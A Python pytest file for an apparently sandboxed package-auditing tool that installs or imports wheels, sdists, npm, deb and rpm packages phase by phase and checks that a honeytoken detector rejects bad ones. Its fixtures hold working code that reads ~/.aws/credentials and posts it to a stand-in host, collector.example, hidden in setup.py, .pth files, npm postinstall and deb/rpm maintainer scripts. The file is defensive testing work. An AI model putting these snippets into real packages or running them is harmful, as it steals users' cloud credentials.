"""Packages that do things when they are installed or imported: each phase is a target."""

from __future__ import annotations

import io
import json
import os
import shutil
import subprocess
import sys
import tarfile
import zipfile
from collections.abc import Mapping
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pytest_ato.model.errors import UsageError
from pytest_ato.model.verdict import Verdict
from pytest_ato.target import resolve, resolve_all
from pytest_ato.target.packages import phases

needs_bsdtar = pytest.mark.skipif(shutil.which("bsdtar") is None, reason="needs bsdtar")
ATO = (sys.executable, "-P", "-c", "import sys; from pytest_ato.cli import main; sys.exit(main())")
PYPROJECT = '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n'
SETUP = "from setuptools import setup\nsetup(name='demo', version='1.0', py_modules=['demo'])\n"
METADATA = "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"


def wheel(folder: Path, /, files: Mapping[str, str]) -> Path:
    path = folder / "demo-1.0-py3-none-any.whl"
    about = "demo-1.0.dist-info"
    own = {
        f"{about}/METADATA": METADATA,
        f"{about}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    names = [*files, *own, f"{about}/RECORD"]
    with zipfile.ZipFile(path, "w") as archive:
        for name, text in {**files, **own}.items():
            archive.writestr(name, text)
        archive.writestr(f"{about}/RECORD", "".join(f"{name},,\n" for name in names))
    return path


def sdist(folder: Path, /, files: Mapping[str, str]) -> Path:
    own = {"PKG-INFO": METADATA, "setup.py": SETUP}
    return _tar(folder / "demo-1.0.tar.gz", "demo-1.0", {**own, **files})


def npm(folder: Path, /, files: Mapping[str, str], **manifest: object) -> Path:
    about = {"name": "demo", "version": "1.0.0", **manifest}
    return _tar(folder / "demo-1.0.0.tgz", "package", {"package.json": json.dumps(about), **files})


def _tar(path: Path, top: str, files: Mapping[str, str]) -> Path:
    with tarfile.open(path, "w:gz") as archive:
        for name, text in files.items():
            info = tarfile.TarInfo(os.path.normpath(f"{top}/{name}"))
            info.size = len(text.encode())
            info.mode = 0o755 if text.startswith("#!") else 0o644
            archive.addfile(info, io.BytesIO(text.encode()))
    return path


def deb(folder: Path, /, files: Mapping[str, str], **scripts: str) -> Path:
    root = folder / "root"
    for name, text in {**files, "usr/share/doc/demo": "A demo.\n"}.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
        (root / name).chmod(0o755)
    control = root / "DEBIAN"
    control.mkdir()
    (control / "control").write_text(
        "Package: demo\nVersion: 1.0\nArchitecture: all\nMaintainer: V <v@vendor.example>\n"
        "Description: a demo\n"
    )
    for name, text in scripts.items():
        (control / name).write_text(text)
        (control / name).chmod(0o755)
    path = folder / "demo_1.0_all.deb"
    subprocess.run(["dpkg-deb", "--root-owner-group", "-b", root, path], check=True, stdout=-3)
    return path


def rpm(folder: Path, *sections: str) -> Path:
    """`sections`: of the spec file, as ``%post -p /bin/sh``, a newline and the script."""
    if shutil.which("rpmbuild") is None:
        pytest.skip("needs rpmbuild")
    top, spec = folder / "rpmbuild", folder / "demo.spec"
    spec.write_text(
        "Name: demo\nVersion: 1.0\nRelease: 1\nSummary: a demo\nLicense: none\nBuildArch: noarch\n"
        "%description\nA demo.\n%install\nmkdir -p %{buildroot}/opt/demo\n"
        "echo data >%{buildroot}/opt/demo/data.txt\n"
        + "\n".join(sections)
        + "\n%files\n/opt/demo\n"
    )
    command = ["rpmbuild", "-bb", "--quiet", "--define", f"_topdir {top}", "--define"]
    subprocess.run([*command, "__os_install_post %{nil}", spec], check=True, stderr=-3)
    return next(top.rglob("*.rpm"))


PYTHON = """
import pathlib, urllib.request
data = (pathlib.Path.home() / ".aws/credentials").read_bytes()
urllib.request.urlopen("http://collector.example/in", data, timeout=20).read()
"""
SHELL = f"#!/bin/sh\n/usr/bin/python3 -c '{PYTHON}'\n"
NODE = """
const data = require("fs").readFileSync(process.env.HOME + "/.aws/credentials");
const to = { method: "POST" };
require("http").request("http://collector.example/in", to, (answer) => answer.resume()).end(data);
"""
PROGRAM = {"usr/bin/demo": "#!/bin/sh\necho a program\n"}
IDLE = "#!/bin/sh\nexit 0\n"
POSTINSTALL = {"postinstall": "node build.js"}
BAD = {
    "wheel: import": (".import", lambda at: wheel(at, {"demo/__init__.py": PYTHON})),
    "wheel: pth": (".import", lambda at: wheel(at, {"evil.py": "", "a.pth": _line(PYTHON)})),
    "sdist: setup.py": (
        ".install",
        lambda at: sdist(at, {"demo.py": "", "setup.py": PYTHON + SETUP}),
    ),
    "npm: postinstall": (
        ".install",
        lambda at: npm(at, {"index.js": "", "build.js": NODE}, scripts=POSTINSTALL),
    ),
    "npm: require": (".import", lambda at: npm(at, {"index.js": NODE})),
    "deb: postinst": (".postinst", lambda at: deb(at, PROGRAM, postinst=SHELL, prerm=IDLE)),
    "rpm: post": (".post", lambda at: rpm(at, f"%post\n{SHELL}", "%postun -p /bin/true")),
}


def _line(program: str) -> str:
    return f"import os; exec({program!r})\n"


@pytest.mark.privileged
@pytest.mark.parametrize("way", BAD)
def test_what_sends_a_honeytoken_is_rejected_in_its_phase_and_no_other(tmp_path, ato_trace, way):
    suffix, make = BAD[way]
    path = make(tmp_path)
    found = [target.phase for target in resolve_all(str(path)) if target.phase]
    assert suffix[1:] in found
    assert len(found) > 1
    for phase in found:
        trace = ato_trace(path, phase=phase)
        if phase == suffix[1:]:
            assert trace.verdict is Verdict.REJECT
            assert "honeytoken_exfil" in {finding.detector for finding in trace.findings}
            assert trace.report.target.phase == phase
        else:
            assert trace.verdict is Verdict.APPROVE


@pytest.mark.privileged
def test_ato_run_audits_all_phases_and_the_worst_decides(tmp_path):
    script = "#!/bin/sh\ncat ~/.aws/credentials >/dev/null\n"
    path = deb(tmp_path, PROGRAM, postinst=script, prerm=IDLE)
    command = [*ATO, "run", "-q", path, "--", "an argument of the program"]
    done = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True)
    assert [line.split(": ")[:2] for line in done.stdout.splitlines()] == [
        [f"{path.name}.postinst", "REJECT"],
        [f"{path.name}.prerm", "APPROVE"],
        [path.name, "APPROVE"],
    ], done.stderr
    assert done.returncode == 1
    report = tmp_path / "ato-report" / f"{path.name}.postinst"
    assert '<property name="ato_phase" value="postinst" />' in (report / "junit.xml").read_text()
    (run,) = json.loads((report / "results.sarif").read_text())["runs"]
    assert run["properties"]["phase"] == "postinst"
    assert "<dt>phase</dt><dd>postinst</dd>" in (report / "report.html").read_text()
    for name, args in ((f"{path.name}.prerm", []), (path.name, ["an argument of the program"])):
        with (tmp_path / "ato-report" / name / "events.jsonl").open() as log:
            assert json.loads(next(log))["spec"].get("args", []) == args


TELLING = "#!/bin/sh\necho $1 $DPKG_MAINTSCRIPT_PACKAGE $DPKG_MAINTSCRIPT_ARCH\n"
BUILD = """
require("fs").writeFileSync("built", "");
const { npm_lifecycle_event, npm_package_name, npm_package_version } = process.env;
console.log("made", npm_lifecycle_event, npm_package_name, npm_package_version);
"""
GOOD = {
    "wheel.install": (b"Successfully installed demo-1.0", lambda at: wheel(at, {"demo.py": ""})),
    "wheel.import": (
        b"imported demo.part",
        lambda at: wheel(at, {"demo/part/__init__.py": "", "demo-1.0.data/purelib/more.py": ""}),
    ),
    "sdist.install": (
        b"Successfully installed demo-1.0",
        lambda at: sdist(at, {"demo.py": "", "pyproject.toml": PYPROJECT}),
    ),
    "sdist.import": (b"imported demo", lambda at: sdist(at, {"src/demo/__init__.py": ""})),
    "npm.install": (
        b"made postinstall demo 1.0.0",
        lambda at: npm(at, {"build.js": BUILD}, scripts=POSTINSTALL),
    ),
    "npm.import": (
        b"an ES module",
        lambda at: npm(
            at, {"a.js": "console.log('an ES module')"}, type="module", exports="./a.js"
        ),
    ),
    "deb.preinst": (b"install demo all", lambda at: deb(at, {}, preinst=TELLING)),
    "deb.postrm": (b"remove demo all", lambda at: deb(at, {}, postrm=TELLING)),
    "rpm.pre": (b"instances: 1", lambda at: rpm(at, "%pre\necho instances: $1")),
    "rpm.preun": (b"instances: 0", lambda at: rpm(at, "%preun\necho instances: $1")),
}


@pytest.mark.privileged
@pytest.mark.parametrize("what", GOOD)
def test_an_honest_phase_does_its_work_and_is_approved(tmp_path, ato_trace, what):
    says, make = GOOD[what]
    trace = ato_trace(make(tmp_path), phase=what.partition(".")[2])
    assert says in trace.stdout, trace.stderr
    assert (trace.returncode, trace.verdict) == (0, Verdict.APPROVE)
    assert not trace.findings


@pytest.mark.privileged
def test_a_module_that_cannot_be_imported_does_not_hide_the_next(tmp_path, ato_trace):
    path = wheel(tmp_path, {"a.py": "raise SystemExit", "b.py": "import nowhere", "c.py": ""})
    trace = ato_trace(path, phase="import")
    assert trace.stdout == b"imported c\n"
    assert b"not imported: a, b" in trace.stderr
    assert trace.verdict is not Verdict.APPROVE


@pytest.mark.privileged
def test_pytest_gives_each_phase_its_items_and_its_report(tmp_path):
    script = "cat ~/.aws/credentials >/dev/null"
    path = npm(tmp_path, {"index.js": ""}, scripts={"install": script})
    command = [sys.executable, "-P", "-m", "pytest", "-q", "-p", "no:cacheprovider"]
    command += [f"--ato-target={path}", "-k", "verdict", "--rootdir", tmp_path]
    done = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True)
    assert done.returncode == 1, done.stdout
    assert f"FAILED {path.name}.install::verdict" in done.stdout
    assert f"{path.name}.import: APPROVE" in done.stdout
    assert "1 failed, 1 passed" in done.stdout
    page = (tmp_path / "ato-report" / f"{path.name}.install" / "report.md").read_text()
    assert "| package | npm, " in page
    assert "| phase | install |" in page


@needs_bsdtar
def test_phases_are_targets_in_the_order_of_their_running(tmp_path):
    targets = resolve_all(str(deb(tmp_path, PROGRAM, prerm=IDLE, preinst=IDLE, postinst=IDLE)))
    found = [target.phase for target in targets]
    assert found == ["preinst", "postinst", "prerm", ""]
    assert [target.name.removeprefix("demo_1.0_all.deb") for target in targets] == [
        f".{phase}" if phase else "" for phase in found
    ]
    assert len({target.manifest_sha256 for target in targets}) == len(found)
    assert {target.sha256 for target in targets} == {targets[0].sha256}
    first = targets[0]
    assert first.program == "/opt/phase/preinst"
    files = {file.path for file in first.package.files}
    assert {"/opt/control/preinst", "/opt/package/usr/bin/demo"} <= files
    assert first.program not in files


@needs_bsdtar
def test_a_phase_must_be_there_and_a_program_where_none_is_named(tmp_path):
    path = str(wheel(tmp_path, {"demo.py": ""}))
    for phase, words in (("", "has no program; it has: install, import"), ("x", "no phase x")):
        with pytest.raises(UsageError, match=words):
            resolve(path, phase=phase)
    named = npm(tmp_path, {"cli.js": "#!/usr/bin/node\n"})
    found = [target.phase for target in resolve_all(str(named), entry="package/cli.js")]
    assert found == ["install", "import", ""]
    assert resolve(str(named), entry="package/cli.js").program.endswith("/package/cli.js")


@needs_bsdtar
def test_an_interpreter_that_is_not_there_is_named(tmp_path, monkeypatch):
    path = str(deb(tmp_path, PROGRAM, postinst="#!/opt/vendor/perl -w\n"))
    with pytest.raises(UsageError, match="its phase postinst needs /opt/vendor/perl, which the"):
        resolve_all(path)
    assert resolve(path).phase == ""
    monkeypatch.setattr(phases, "PATH", "/nowhere")
    with pytest.raises(UsageError, match="its phase install needs node, which the"):
        resolve_all(str(npm(tmp_path, {"index.js": ""})))
    with pytest.raises(UsageError, match="its phase install needs pip3, which the"):
        resolve_all(str(sdist(tmp_path, {"setup.py": ""})))


@needs_bsdtar
def test_a_script_that_is_no_phase_is_told(tmp_path):
    (target,) = resolve_all(str(deb(tmp_path, PROGRAM, config=IDLE)))
    assert target.package.left_out == ("its config script, which debconf runs, was not run",)
    path = rpm(tmp_path, "%pre -p <lua>\nprint(1)", "%post -p /bin/true")
    (target,) = resolve_all(str(path))
    assert (target.phase, target.package.kind) == ("post", "rpm")
    assert target.package.left_out == ("its %pre script was not run: it is for the Lua inside rpm",)


@needs_bsdtar
def test_what_its_manager_would_take_otherwise_is_refused(tmp_path):
    path = npm(tmp_path, {"index.js": "", "../other/index.js": NODE})
    with pytest.raises(UsageError, match="more in it than the folder package"):
        resolve_all(str(path))
    path = deb(tmp_path, PROGRAM)
    parts = tmp_path / "parts"
    parts.mkdir()
    subprocess.run(["ar", "x", path], cwd=parts, check=True)
    (control,) = parts.glob("control.tar*")
    control.unlink()
    with tarfile.open(parts / "control.tar", "w") as archive:
        for name, link in (("control", ""), ("real", ""), ("postinst", "real")):
            info = tarfile.TarInfo(name)
            info.type, info.linkname = (tarfile.SYMTYPE, link) if link else (tarfile.REGTYPE, "")
            archive.addfile(info)
    members = ["debian-binary", "control.tar", next(parts.glob("data.tar*")).name]
    other = tmp_path / "other.deb"
    subprocess.run(["ar", "rc", other, *members], cwd=parts, check=True)
    with pytest.raises(UsageError, match="is a deb whose postinst is no file"):
        resolve_all(str(other))


TREES = {
    "wheel": ("zip", {"demo-1.0.dist-info/WHEEL"}),
    "sdist": ("tar", {"demo-1.0/PKG-INFO", "demo-1.0/setup.py"}),
    "npm": ("tar", {"package/package.json"}),
}


@pytest.mark.parametrize("kind", TREES)
def test_a_kind_is_told_by_all_of_its_files_and_by_no_link(tmp_path, kind):
    archive, names = TREES[kind]
    for name in names:
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).touch()
    assert phases.kind_inside(archive, tmp_path) == kind
    assert phases.kind_inside("rpm" if kind == "wheel" else "zip", tmp_path) != "npm"
    for name in names:
        (tmp_path / name).rename(tmp_path / "away")
        assert phases.kind_inside(archive, tmp_path) == ""
        (tmp_path / name).symlink_to(tmp_path / "away")
        assert phases.kind_inside(archive, tmp_path) == ""
        (tmp_path / name).unlink()
        (tmp_path / "away").rename(tmp_path / name)


@settings(max_examples=40, deadline=None)
@given(
    st.sampled_from(["zip", "tar"]),
    st.sets(
        st.sampled_from(
            [
                "PKG-INFO",
                "a",
                "a/PKG-INFO",
                "a/setup.py",
                "package/package.json",
                "x.dist-info/WHEEL",
            ]
        )
    ),
    st.booleans(),
)
def test_no_names_in_an_archive_do_harm(tmp_path_factory, archive, names, folders):
    tree = tmp_path_factory.mktemp("names")
    for name in names:
        try:
            (tree / name).parent.mkdir(exist_ok=True)
            (tree / name).mkdir() if folders else (tree / name).touch()
        except (FileExistsError, NotADirectoryError):
            continue
    assert phases.kind_inside(archive, tree) in ("", "wheel", "sdist", "npm")
